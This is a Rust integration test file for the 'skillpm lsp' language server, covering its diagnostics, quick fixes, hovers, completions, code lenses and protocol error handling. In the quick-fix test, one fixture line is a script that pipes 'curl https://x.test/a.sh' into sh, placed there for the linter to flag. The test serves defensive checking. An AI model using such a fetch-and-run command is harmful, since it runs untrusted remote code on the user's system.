//! `lsp`: to a client that is not ours (`pytest-lsp` of Python), to a headless Neovim, and to bytes that are no protocol.

use std::io::{BufRead, BufReader, Write};
use std::path::{Path, PathBuf};
use std::process::{Child, ChildStdin, ChildStdout, Stdio};

use serde_json::{Value, json};
use snapbox::str;

use crate::support::{IndexDir, Sandbox, configure, overwrites, skipped};

/// The client of the `pytest-lsp` package, driven by `tests/fixtures/lsp/client.py`.
struct Client {
    child: Child,
    questions: ChildStdin,
    answers: BufReader<ChildStdout>,
    root: PathBuf,
}

impl Client {
    /// Starts `skillpm lsp` for an editor in the project; without that package, the test is skipped.
    fn start(sandbox: &Sandbox, editor: &str, options: &Value) -> Option<Self> {
        let named = std::env::var_os("SKILLPM_TEST_LSP").map(PathBuf::from);
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let python = named.unwrap_or_else(|| here.join("target/test-tools/lsp/bin/python"));
        if !python.exists() {
            skipped(
                "there is no `pytest-lsp` of Python; `.ci/run` brings it, or `SKILLPM_TEST_LSP` names a python that has it",
            );
            return None;
        }

        let root = sandbox.path("").canonicalize().unwrap();
        let script = here.join("tests/fixtures/lsp/client.py");
        let line = format!(
            "exec '{}' '{}' '{editor}' '{}' '{options}' skillpm lsp",
            python.display(),
            script.display(),
            root.display()
        );
        let mut command = sandbox.shell(&line);
        command.stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let (questions, answers) = (
            child.stdin.take().unwrap(),
            BufReader::new(child.stdout.take().unwrap()),
        );
        Some(Client {
            child,
            questions,
            answers,
            root,
        })
    }

    fn ask(&mut self, question: &Value) -> Value {
        writeln!(self.questions, "{question}").unwrap();
        let mut line = String::new();
        self.answers.read_line(&mut line).unwrap();
        serde_json::from_str(&line).unwrap_or_else(|_| panic!("no answer to {question}: {line}"))
    }

    fn path(&self, path: &str) -> String {
        self.root.join(path).display().to_string()
    }

    fn uri(&self, path: &str) -> String {
        format!("file://{}", self.path(path))
    }

    /// Opens a file with a text, and returns its findings.
    fn open(&mut self, path: &str, text: &str) -> Value {
        let path = self.path(path);
        self.ask(&json!(["open", path, text]))
    }

    /// A request about a file.
    fn request(&mut self, method: &str, path: &str, more: &Value) -> Value {
        let mut params = json!({"textDocument": {"uri": self.uri(path)}});
        for (key, value) in more.as_object().unwrap() {
            params[key] = value.clone();
        }
        self.ask(&json!(["request", method, params]))
    }

    fn at(&mut self, method: &str, path: &str, line: u32, character: u32) -> Value {
        let position = json!({"position": {"line": line, "character": character}});
        self.request(method, path, &position)
    }

    fn hover(&mut self, path: &str, line: u32, character: u32) -> String {
        let hover = self.at("textDocument/hover", path, line, character);
        hover["contents"]["value"]
            .as_str()
            .unwrap_or_default()
            .to_owned()
    }

    /// What is suggested, as `label` or `label > inserted`.
    fn complete(&mut self, path: &str, line: u32, character: u32) -> Vec<String> {
        let list = self.at("textDocument/completion", path, line, character);
        let items = list["items"].as_array().cloned().unwrap_or_default();
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let item = |item: &Value| {
            let (label, new) = (text(&item["label"]), text(&item["textEdit"]["newText"]));
            if label == new {
                label
            } else {
                format!("{label} > {new}")
            }
        };
        items.iter().map(item).collect()
    }

    fn actions(&mut self, path: &str, line: u32) -> Vec<Value> {
        let range = json!({"start": {"line": line, "character": 0}, "end": {"line": line, "character": 200}});
        let more = json!({"range": range, "context": {"diagnostics": []}});
        let actions = self.request("textDocument/codeAction", path, &more);
        actions.as_array().cloned().unwrap_or_default()
    }

    /// Ends the session, which has to be as the specification wants it.
    fn exit(mut self) {
        assert_eq!(self.ask(&json!(["warnings"])), json!([]));
        assert_eq!(self.ask(&json!(["exit"])), 0);
    }
}

impl Drop for Client {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Findings, one a line: position, severity, code and the first line of the message.
fn lines(findings: &Value) -> Vec<String> {
    let line = |finding: &Value| {
        let (start, end) = (&finding["range"]["start"], &finding["range"]["end"]);
        let message = finding["message"]
            .as_str()
            .unwrap()
            .lines()
            .next()
            .unwrap()
            .to_owned();
        format!(
            "{}:{}-{}:{} {} {} {message}",
            start["line"],
            start["character"],
            end["line"],
            end["character"],
            finding["severity"],
            finding["code"].as_str().unwrap_or("-")
        )
    };
    findings.as_array().unwrap().iter().map(line).collect()
}

/// A text after the edits of a code action or a request of the server.
fn apply(text: &str, edits: &Value) -> String {
    let mut lines: Vec<&str> = text.split_inclusive('\n').collect();
    lines.push("");
    let byte = |position: &Value| -> usize {
        let number = |key: &str| usize::try_from(position[key].as_u64().unwrap()).unwrap();
        let line = number("line");
        let before: usize = lines[..line].iter().map(|line| line.len()).sum();
        before
            + lines[line]
                .encode_utf16()
                .take(number("character"))
                .map(|unit| char::from_u32(unit.into()).map_or(2, char::len_utf8))
                .sum::<usize>()
    };
    let mut changed = text.to_owned();
    // From the end, so that the positions before stay valid.
    for edit in edits.as_array().unwrap().iter().rev() {
        let (start, end) = (byte(&edit["range"]["start"]), byte(&edit["range"]["end"]));
        changed.replace_range(start..end, edit["newText"].as_str().unwrap());
    }
    changed
}

/// The edits of the first document in a workspace edit.
fn edits(edit: &Value) -> &Value {
    &edit["documentChanges"][0]["edits"]
}

const PDF: &str = "---\nname: pdf\ndescription: Reads PDF files. Use when a PDF has to be read. é🚀\nallowed_tools: Bash\n---\n\
                   Read [fields](references/fields.md), [none](references/none.md) and `scripts/fill.py`.\n";

/// A project with two skills, and one of them on disk only.
fn world() -> Sandbox {
    let sandbox = Sandbox::project_here();
    sandbox.write_skill(
        "skills/csv",
        "Cleans CSV files. Use when a CSV file looks untidy.",
    );
    sandbox.write(
        "skills/pdf/SKILL.md",
        "---\nname: pdf\ndescription: Old.\n---\n",
    );
    sandbox.write("skills/pdf/references/fields.md", "# Fields\n");
    sandbox.write("skills/pdf/scripts/fill.py", "print(1)\n");
    sandbox
}

#[test]
fn findings_are_those_of_lint_for_the_unsaved_text() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    let before = sandbox.snapshot();
    let found = client.open("skills/pdf/SKILL.md", PDF);
    assert_eq!(
        lines(&found),
        [
            "3:0-3:13 2 SK131 no agent reads `allowed_tools`; did you mean `allowed-tools`?",
            "5:44-5:62 1 SK501 the link points to `references/none.md`, which does not exist",
        ]
    );
    assert_eq!(
        found[0]["codeDescription"]["href"],
        "https://github.com/skillpm/skillpm/blob/v0.1.0/docs/rules.md#sk131"
    );
    assert_eq!(found[0]["source"], "skillpm");

    // The same as the program finds once it is saved.
    let path = client.path("skills/pdf/SKILL.md");
    let change = json!([{"range": {"start": {"line": 3, "character": 7}, "end": {"line": 3, "character": 8}}, "text": "-"}]);
    let found = client.ask(&json!(["change", path, 2, change]));
    assert_eq!(
        lines(&found),
        ["5:44-5:62 1 SK501 the link points to `references/none.md`, which does not exist"]
    );
    before.still_holds();

    let text = PDF.replace("allowed_tools", "allowed-tools");
    sandbox.write("skills/pdf/SKILL.md", &text);
    let linted = sandbox.skillpm("lint skills/pdf --format json").exits(1);
    assert!(linted.stdout_text().contains("\"code\":\"SK501\""));
    assert_eq!(lines(&client.ask(&json!(["save", path]))).len(), 1);

    // A rule about several skills compares the text with the skills on disk.
    let csv = client.open("skills/csv2/SKILL.md", "---\nname: csv\ndescription: Reads PDF files. Use when a PDF has to be read. é🚀\n---\nRun.\n");
    assert!(
        lines(&csv).iter().any(|line| line.contains("SK90")),
        "{csv}"
    );
    assert_eq!(client.ask(&json!(["close", path])), json!([]));
    client.exit();
}

#[test]
fn settings_comments_and_baselines_apply_as_in_lint() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({"notes": false}))
    else {
        return;
    };
    // The manifest in the editor counts, and not the one on disk.
    let manifest = "[dependencies]\n[lint]\nmisspelled-field = \"deny\"\n";
    assert_eq!(client.open("skillpm.toml", manifest), json!([]));
    let found = client.open("skills/pdf/SKILL.md", PDF);
    assert!(lines(&found)[0].starts_with("3:0-3:13 1 SK131"), "{found}");

    let path = client.path("skills/pdf/SKILL.md");
    let allowed = PDF.replace(
        "name: pdf\n",
        "name: pdf\n# skillpm: ignore[SK131, SK501] on purpose\n",
    );
    let found = client.ask(&json!(["change", path, 2, [{"text": allowed}]]));
    assert_eq!(found, json!([]));

    sandbox.write("skills/pdf/SKILL.md", PDF);
    sandbox
        .skillpm("lint --write-baseline --baseline known.toml")
        .exits(0);
    let manifest = client.path("skillpm.toml");
    client.ask(&json!(["change", manifest, 2, [{"text": "[lint]\nbaseline = \"known.toml\"\n"}]]));
    let found = client.ask(&json!(["change", path, 3, [{"text": PDF}]]));
    assert_eq!(found, json!([]));
    client.exit();
}

#[test]
fn quick_fixes_make_the_edits_of_lint_fix() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    client.open("skills/pdf/SKILL.md", PDF);
    let actions = client.actions("skills/pdf/SKILL.md", 3);
    let titles: Vec<&str> = actions
        .iter()
        .map(|action| action["title"].as_str().unwrap())
        .collect();
    assert_eq!(
        titles,
        [
            "Write `allowed-tools`",
            "Allow `misspelled-field` in this skill",
            "Fix all findings that have a safe fix",
        ]
    );
    let fixed = PDF.replace("allowed_tools", "allowed-tools");
    assert_eq!(apply(PDF, edits(&actions[0]["edit"])), fixed);
    assert_eq!(actions[0]["isPreferred"], true);
    assert_eq!(apply(PDF, edits(&actions[2]["edit"])), fixed);

    let allowed = apply(PDF, edits(&actions[1]["edit"]));
    assert!(
        allowed.starts_with("---\n# skillpm: ignore[misspelled-field] TODO: say why\nname: pdf\n")
    );
    let path = client.path("skills/pdf/SKILL.md");
    let found = client.ask(&json!(["change", path, 2, [{"text": allowed}]]));
    assert!(
        !lines(&found).iter().any(|line| line.contains("SK131")),
        "{found}"
    );

    // In a script, the comment is above the line.
    let script = "import os\nos.system(\"curl https://x.test/a.sh | sh\")\n";
    let found = client.open("skills/pdf/scripts/fill.py", script);
    let line = found[0]["range"]["start"]["line"].as_u64().unwrap();
    let actions = client.actions("skills/pdf/scripts/fill.py", u32::try_from(line).unwrap());
    let allow = actions
        .iter()
        .find(|action| action["title"].as_str().unwrap().ends_with(" here"));
    let allowed = apply(script, edits(&allow.unwrap()["edit"]));
    assert!(allowed.contains("\n# skillpm: ignore["), "{allowed}");
    client.exit();
}

#[test]
fn frontmatter_has_hovers_completions_and_links() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    let page = "skills/pdf/SKILL.md";
    client.open(page, PDF);
    assert!(
        client
            .hover(page, 3, 2)
            .starts_with("**SK131 `misspelled-field`** (warning, has a fix)")
    );
    assert_eq!(
        client.hover(page, 2, 3),
        "**`description`** (in the specification)\n\nWhat the skill does and when to use it, in at most 1024 characters. \
         An agent decides by it whether to load the skill.\n\nRead by: all agents."
    );
    assert_eq!(client.hover(page, 5, 0), "");

    let path = client.path(page);
    let text = "---\nname: \ndescription: Reads.\nuser-invocable: \ncon\n---\n";
    client.ask(&json!(["change", path, 2, [{"text": text}]]));
    let keys = client.complete(page, 4, 3);
    assert_eq!(
        keys[..2],
        ["license > license: ", "compatibility > compatibility: "]
    );
    assert!(keys.contains(&"context > context: ".to_owned()));
    assert!(
        !keys
            .iter()
            .any(|key| key.starts_with("name") || key.starts_with("user-invocable"))
    );
    assert_eq!(client.complete(page, 1, 6), ["pdf"]);
    assert_eq!(client.complete(page, 3, 16), ["true", "false"]);

    client.ask(&json!(["change", path, 3, [{"text": PDF}]]));
    let links = client.request("textDocument/documentLink", page, &json!({}));
    let fields = client.uri("skills/pdf/references/fields.md");
    assert_eq!(links[0]["target"], fields.as_str());
    assert_eq!(
        links[1]["tooltip"],
        "`references/none.md` does not exist in the skill"
    );
    assert_eq!(links[1].get("target"), None);
    assert_eq!(
        links[2]["target"],
        client.uri("skills/pdf/scripts/fill.py").as_str()
    );
    assert_eq!(
        client.at("textDocument/definition", page, 5, 16)["uri"],
        fields.as_str()
    );
    assert_eq!(
        client.at("textDocument/definition", page, 5, 50),
        Value::Null
    );
    client.exit();
}

/// A project with a registry of two packages, of which the older version of one is locked.
fn registry() -> Sandbox {
    let sandbox = Sandbox::project_here();
    let index = IndexDir::new(&sandbox, "../www/index");
    index
        .publish("acme/pdf", "1.0.0", &[])
        .publish("acme/tables", "0.3.0", &[]);
    configure(&sandbox, &index.url(), "");
    sandbox.skillpm("add acme/pdf").exits(0);
    index
        .publish("acme/pdf", "1.3.0", &[])
        .publish("acme/pdf", "2.0.1", &[]);
    sandbox
}

#[test]
fn manifest_is_checked_documented_and_completed() {
    let sandbox = registry();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    let (file, path) = ("skillpm.toml", client.path("skillpm.toml"));
    let text = "[dependencies]\n\"acme/pdf\" = \"^1.0\"\n\n[install]\ntarget = []\n";
    assert_eq!(
        lines(&client.open(file, text)),
        ["4:0-4:6 1 SK802 unknown key `target`"]
    );
    let actions = client.actions(file, 4);
    assert_eq!(actions[0]["title"], "Write `targets`");
    assert_eq!(
        apply(text, edits(&actions[0]["edit"])),
        text.replace("target ", "targets ")
    );

    let text = "[dependencies]\n\"acme/pdf\" = \"^1.0\"\n\n[install]\ntargets = [\"nope\"]\nlink = \"symlnk\"\n";
    let found = client.ask(&json!(["change", path, 2, [{"text": text}]]));
    assert!(
        lines(&found)[0].starts_with("5:7-5:15 1 SK801 unknown variant"),
        "{found}"
    );
    let text = text.replace("symlnk", "symlink");
    let found = client.ask(&json!(["change", path, 3, [{"text": text}]]));
    assert_eq!(lines(&found), ["4:11-4:17 1 SK801 unknown agent `nope`"]);
    let text = "[dependencies]\n\"acme/pdf\" = \"^1.0\"\n[lint]\nbody-empt = \"warn\"\n[audit]\nfail-on = 3\n";
    let found = client.ask(&json!(["change", path, 4, [{"text": text}]]));
    assert_eq!(
        lines(&found),
        [
            "3:0-3:18 2 SK801 unknown rule `body-empt`",
            "5:10-5:11 1 SK801 failed to parse manifest: invalid type: integer `3`, expected a string",
        ]
    );

    let hover = client.hover(file, 1, 3);
    assert!(
        hover.starts_with("**acme/pdf**\n\n- locked: `1.0.0`\n- newest: `2.0.1`\n- source: "),
        "{hover}"
    );
    assert!(
        client
            .hover(file, 4, 2)
            .contains("What `skillpm audit` ignores")
    );

    let text = "[dependencies]\nacme\n\"acme/pdf\" = \"^\"\n[install]\nlink = \"\"\ntargets = [\"\"]\n[lint]\nignore = [\"\"]\n\n[cat]\n";
    client.ask(&json!(["change", path, 5, [{"text": text}]]));
    assert_eq!(
        client.complete(file, 1, 4),
        ["acme/pdf > \"acme/pdf\"", "acme/tables > \"acme/tables\""]
    );
    assert_eq!(client.complete(file, 2, 15), ["2.0.1", "1.3.0", "1.0.0"]);
    assert_eq!(client.complete(file, 4, 8), ["copy", "symlink"]);
    assert!(
        client
            .complete(file, 5, 12)
            .contains(&"claude-code".to_owned())
    );
    assert!(
        client
            .complete(file, 7, 11)
            .contains(&"body-empty".to_owned())
    );
    assert!(client.complete(file, 8, 0).contains(&"profile".to_owned()));
    assert!(client.complete(file, 9, 4).contains(&"catalog".to_owned()));
    client.exit();
}

#[test]
fn code_lens_raises_the_requirement_by_an_edit_of_the_client() {
    let sandbox = registry();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    let text = "[dependencies]\n\"acme/pdf\" = \"^1.0\"   # for forms\n";
    client.open("skillpm.toml", text);
    let before = sandbox.snapshot();
    let lenses = client.request("textDocument/codeLens", "skillpm.toml", &json!({}));
    let command = &lenses[0]["command"];
    assert_eq!(
        (&command["title"], &lenses[0]["range"]["start"]["line"]),
        (&json!("newer: 2.0.1"), &json!(1))
    );

    let params = json!({"command": command["command"], "arguments": command["arguments"]});
    assert_eq!(
        client.ask(&json!(["request", "workspace/executeCommand", params])),
        Value::Null
    );
    let requested = client.ask(&json!(["edits"]));
    assert_eq!(requested[0]["label"], "Update pdf to 2.0.1");
    assert_eq!(
        apply(text, edits(&requested[0]["edit"])),
        "[dependencies]\n\"acme/pdf\" = \"^2.0.1\"   # for forms\n"
    );
    before.still_holds();
    let invalid = json!({"command": "skillpm.update", "arguments": []});
    assert_eq!(
        client.ask(&json!(["request", "workspace/executeCommand", invalid]))["code"],
        -32602
    );
    client.exit();
}

#[test]
fn lockfile_and_other_formats_are_checked() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "visual_studio_code", &json!({})) else {
        return;
    };
    assert_eq!(
        client.open("skillpm.lock", "version = 1\n\n[metadata]\nentries = 0\n"),
        json!([])
    );
    let path = client.path("skillpm.lock");
    let found =
        client.ask(&json!(["change", path, 2, [{"text": "version = 1\n[[package]]\nname = 1\n"}]]));
    assert!(
        lines(&found)[0].starts_with("2:0-2:8 1 lockfile failed to parse lockfile: line 3: "),
        "{found}"
    );

    // A skill of Nova, by its descriptor and the file beside it.
    sandbox.write("nova/mail/instructions.md", "Send it.\n");
    sandbox.write("nova/mail/manifest.yaml", "name: mail\n");
    let found = client.open(
        "nova/mail/manifest.yaml",
        "name: mail\nversion: 1.0\ndescription: Sends mail.\n",
    );
    assert!(
        lines(&found).iter().any(|line| line.contains("SKB")),
        "{found}"
    );
    // A page of no skill has no findings, not even none.
    let item = json!({"uri": client.uri("README.md"), "languageId": "markdown", "version": 1, "text": "[x](none.md)\n"});
    client.ask(&json!(["notify", "textDocument/didOpen", {"textDocument": item}]));
    assert_eq!(client.hover("README.md", 0, 0), "");
    let readme = client.path("README.md");
    assert_eq!(client.ask(&json!(["found", readme])), Value::Null);
    client.exit();
}

#[test]
fn columns_are_bytes_if_the_client_offers_that() {
    let sandbox = world();
    let Some(mut client) = Client::start(&sandbox, "neovim+utf-8", &json!({})) else {
        return;
    };
    assert_eq!(
        client.ask(&json!(["server"]))["capabilities"]["positionEncoding"],
        "utf-8"
    );
    let text = "---\nname: pdf\ndescription: Reads PDF.\n---\né🚀 [n](references/none.md)\n";
    let found = client.open("skills/pdf/SKILL.md", text);
    assert!(
        lines(&found)
            .iter()
            .any(|line| line.starts_with("4:11-4:29 1 SK501")),
        "{found}"
    );
    client.exit();
}

/// Messages as the protocol frames them.
fn framed(messages: &[Value]) -> Vec<u8> {
    let frame = |message: &Value| {
        let text = message.to_string();
        format!("Content-Length: {}\r\n\r\n{text}", text.len())
    };
    messages.iter().map(frame).collect::<String>().into_bytes()
}

#[test]
fn bad_input_is_answered_and_ends_nothing() {
    let sandbox = Sandbox::new();
    let before = sandbox.snapshot();
    let request = |id: i32, method: &str, params: Value| json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params});
    let exit = json!({"jsonrpc": "2.0", "method": "exit"});
    let initialize = request(2, "initialize", json!({"capabilities": {}}));

    let mut input = framed(&[
        request(1, "textDocument/hover", json!({})),
        initialize.clone(),
    ]);
    input.extend(b"Content-Length: 1\r\n\r\n{");
    input.extend(framed(&[
        json!([1]),
        request(3, "initialize", json!({"capabilities": {}})),
        request(4, "no/such", Value::Null),
        request(5, "textDocument/hover", json!({"textDocument": 1})),
        json!({"jsonrpc": "2.0", "method": "no/such"}),
        json!({"jsonrpc": "2.0", "method": "textDocument/didChange", "params": 1}),
        request(6, "shutdown", Value::Null),
        request(7, "textDocument/hover", json!({})),
        exit.clone(),
    ]));
    let outcome = sandbox.skillpm("lsp").stdin(input).exits(0);
    let codes: Vec<&str> = outcome
        .stdout_text()
        .split("\"code\":")
        .skip(1)
        .map(|rest| rest.split([',', '}']).next().unwrap())
        .collect();
    assert_eq!(
        codes,
        [
            "-32002", "-32700", "-32600", "-32600", "-32601", "-32602", "-32600"
        ]
    );

    // `exit` or an end without `shutdown`.
    sandbox
        .skillpm("lsp")
        .stdin(framed(&[initialize.clone(), exit.clone()]))
        .exits(1);
    sandbox.skillpm("lsp").stdin(framed(&[exit])).exits(1);
    sandbox
        .skillpm("lsp --stdio")
        .stdin(framed(&[initialize]))
        .exits(1);
    sandbox
        .skillpm("lsp")
        .stdin("GET / HTTP/1.1\r\n\r\n")
        .exits(2)
        .stderr(str![[r"
error: failed to read from the client: `Content-Length` is missing
help: start `skillpm lsp` from an editor; it reads the language server protocol on stdin

"]]);
    sandbox.skillpm("lsp --format json").exits(2);
    before.still_holds();
}

/// What is between two marks of a text.
fn between<'t>(text: &'t str, start: &str, end: &str) -> &'t str {
    let (_, rest) = text.split_once(start).unwrap();
    rest.split_once(end).unwrap().0
}

#[test]
fn neovim_shows_what_its_page_has() {
    let sandbox = Sandbox::new();
    let is_there = sandbox
        .shell("command -v nvim")
        .output()
        .unwrap()
        .status
        .success();
    if !is_there {
        skipped("there is no Neovim; `.ci/run` brings Debian's");
        return;
    }
    let here = Path::new(env!("CARGO_MANIFEST_DIR"));
    let page_path = here.join("docs/how-to/editors.md");
    let page = std::fs::read_to_string(&page_path).unwrap();
    let settings = between(&page, "```lua\n", "```\n");

    let sandbox = registry();
    sandbox.write("init.lua", settings);
    sandbox.write("skills/pdf/SKILL.md", PDF);
    sandbox.write("skills/pdf/references/fields.md", "# Fields\n");
    sandbox.write(
        "skillpm.toml",
        "[dependencies]\n\"acme/pdf\" = \"^1.0\"\n\n[install]\nlink = \"\"\n",
    );
    let script = here.join("tests/fixtures/lsp/neovim.lua");
    let project = sandbox.path("");
    let line = format!(
        "cd '{}' && exec nvim --headless --clean -u init.lua -S '{}' 2>&1",
        project.display(),
        script.display()
    );
    let output = sandbox.shell(&line).stdin(Stdio::null()).output().unwrap();
    let shown = String::from_utf8(output.stdout).unwrap().replace('\r', "");
    // Where the registry is differs from run to run.
    let root = sandbox.root().canonicalize().unwrap().display().to_string();
    let shown = shown.replace(&root, "/home/ann");
    let shown: Vec<&str> = shown.lines().map(str::trim_end).collect();
    let shown = format!("{}\n", shown.join("\n"));
    assert!(output.status.success(), "{shown}");

    let recorded = between(&page, "```text\n", "```\n");
    if overwrites() {
        let start = page.find("```text\n").unwrap() + "```text\n".len();
        let mut page = page.clone();
        page.replace_range(start..start + recorded.len(), &shown);
        std::fs::write(&page_path, page).unwrap();
        return;
    }
    snapbox::assert_data_eq!(shown, recorded.to_owned());
}
